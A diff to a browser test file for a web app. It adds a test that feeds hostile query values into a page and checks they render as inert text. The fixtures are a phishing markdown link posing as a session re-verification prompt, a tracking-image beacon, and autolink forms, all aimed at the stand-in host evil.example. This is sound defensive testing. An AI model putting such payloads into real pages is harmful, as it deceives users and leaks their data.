@@ -115,6 +115,24 @@ def test_secretary_with_another_street_in_the_url_sees_their_own(server, page):
     assert "street=S01" in page.url
 
 
+@pytest.mark.parametrize("query", [
+    "channel=[会话异常，点此重新验证](http://evil.example/login)",
+    "community=![](http://evil.example/t.png?who=x)",
+    "category=http://evil.example www.evil.example a@evil.example",
+])
+def test_hostile_url_values_render_as_text_in_the_browser(server, page, query):
+    """What the browser draws, not only the markdown sent: no link or image to the hostile host (GitHub-style
+    autolinks are found after escaping, so the value must not even look like a URL), and no request to it."""
+    open_page(page, f"{server}/overdue?{query}", [], username="donghu")
+    page.wait_for_selector('[data-testid="stSidebar"] [data-testid="stAlert"]', timeout=30_000)
+    notice = page.inner_text('[data-testid="stSidebar"] [data-testid="stAlert"]')
+    assert "evil" in notice  # the value is quoted, as text
+    hrefs = page.eval_on_selector_all("a", "els => els.map(e => e.href)")
+    images = page.eval_on_selector_all("img", "els => els.map(e => e.src)")
+    assert not [h for h in hrefs if "evil" in h] and not [i for i in images if "evil" in i]
+    assert not [r for r in page.outside_requests if "evil" in r]
+
+
 def test_secretary_cannot_open_the_accounts_page(server, page):
     open_page(page, f"{server}/accounts", username="donghu")
     shot(page, "roles_secretary_accounts")
